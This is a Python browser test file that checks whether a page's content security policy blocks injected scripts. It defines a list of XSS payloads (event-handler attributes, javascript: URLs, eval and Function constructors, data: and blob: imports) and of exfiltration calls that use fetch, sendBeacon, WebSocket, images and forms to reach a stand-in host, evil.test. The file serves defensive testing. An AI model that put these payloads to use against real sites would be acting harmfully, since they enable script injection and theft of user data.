"""The page's policy in a browser: a script that got into the page does not run, whichever way it came, and all that the
page does itself goes on."""

import pytest

from tests.browser.conftest import FIRST, blank_page
from tests.support.visitor import SOON

pytestmark = pytest.mark.browser

# Each tries to run `window.pwned = 1`, or to reach another host; each is started by a script of the page's own world.
SCRIPT = "window.pwned=1"
WAYS = {
    "script": f"{{ const s = document.createElement('script'); s.textContent = '{SCRIPT}'; document.body.append(s); }}",
    "elsewhere": "{ const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; "
    "document.body.append(s); }",
    "data": f"{{ const s = document.createElement('script'); s.src = 'data:text/javascript,{SCRIPT}'; "
    "document.body.append(s); }",
    "module": f"import('data:text/javascript,{SCRIPT}').catch(() => 0);",
    "blob": f"import(URL.createObjectURL(new Blob(['{SCRIPT}'], {{ type: 'text/javascript' }}))).catch(() => 0);",
    "handler": f"box.innerHTML = '<img src=x onerror={SCRIPT}><details open ontoggle={SCRIPT}>';",
    "attribute": f"box.setAttribute('onclick', '{SCRIPT}'); box.click();",
    "link": f"box.innerHTML = '<a href=\"javascript:{SCRIPT}\">x</a>'; box.firstChild.click();",
    "address": f"location.href = 'javascript:{SCRIPT}';",
    "frame": "box.innerHTML = '<iframe src=\"https://evil.test/\"></iframe>';",
    "written": f"box.innerHTML = '<iframe srcdoc=\"<script>parent.{SCRIPT}</script>\"></iframe>'; "
    "box.firstChild.onload = () => document.dispatchEvent(new Event('tried'));",  # refused inside its frame
    "eval": f"eval('{SCRIPT}');",
    "timer": f"setTimeout('{SCRIPT}');",
    "function": f"Function('{SCRIPT}')();",
    "later": f"(async () => {{}}).constructor('{SCRIPT}')();",
    "generator": f"(function* () {{}}).constructor('{SCRIPT}')().next();",
    "own": f"(() => {{}}).constructor('{SCRIPT}')();",
    "style": "{ const s = document.createElement('style'); s.textContent = 'body { --pwned: 1 }'; "
    "document.head.append(s); }",
    "sheet": "document.head.append(Object.assign(document.createElement('link'), "
    "{ rel: 'stylesheet', href: 'https://evil.test/x.css' }));",
    "fetch": "fetch('https://evil.test/?stolen').catch(() => 0);",
    "beacon": "navigator.sendBeacon('https://evil.test/?stolen');",
    "socket": "new WebSocket('wss://evil.test/');",
    "picture": "box.innerHTML = '<img src=\"https://evil.test/?stolen\">';",
    "ground": "box.style.backgroundImage = 'url(https://evil.test/?stolen)';",
    "form": "box.innerHTML = '<form action=\"https://evil.test/\" method=post></form>'; box.firstChild.submit();",
    "base": "document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://evil.test/' }));",
    "object": 'box.innerHTML = \'<object data="https://evil.test/x.pdf"></object><embed src="https://evil.test/x">\';',
    "worker": f"new Worker('data:text/javascript,{SCRIPT}');",
}
REFUSED = ("function", "later")  # by the page itself, without asking the browser
# Takes one way after the other; each has two seconds to be refused, by an error or by a message of the policy.
TRY = """async (names) => {
  const told = {};
  for (const name of names) {
    const box = document.createElement("div");
    document.body.append(box);
    told[name] = await new Promise((done) => {
      document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
      document.addEventListener("tried", () => done("tried"), { once: true });
      setTimeout(done, 2000, "");
      try { window.tries[name](box); } catch (error) { done(error.name); }
    });
    await new Promise((done) => setTimeout(done, 20));
    box.remove();
  }
  return told;
}"""


def test_a_script_that_got_in_does_not_run(profile, app_url):
    """The ways stand in a file of the page's own, as its scripts do: what a test's tool runs is free of the policy."""
    page, elsewhere = blank_page(profile), []
    page.on("dialog", lambda dialog: (elsewhere.append(dialog.message), dialog.dismiss()))
    tries = "".join(f"{name}(box) {{ {way} }}," for name, way in WAYS.items())
    address = f"{app_url}playground/static/tries.js"
    page.route(
        address, lambda route: route.fulfill(body=f"window.tries = {{{tries}}};", content_type="text/javascript")
    )
    page.goto(app_url)
    page.locator(FIRST).wait_for(timeout=SOON)
    page.on("response", lambda answer: elsewhere.append(answer.url) if "evil.test" in answer.url else None)
    page.evaluate(
        "src => new Promise((done) => { const s = document.createElement('script'); s.src = src; s.onload = done; "
        "document.head.append(s); })",
        address,
    )
    told = page.evaluate(TRY, list(WAYS))
    assert [name for name, said in told.items() if not said] == []
    assert {told[name] for name in REFUSED} == {"EvalError"} and told["written"] == "tried"
    assert page.evaluate("[window.pwned, getComputedStyle(document.body).getPropertyValue('--pwned')]") == [None, ""]
    assert page.url == app_url and not elsewhere
    page.close()
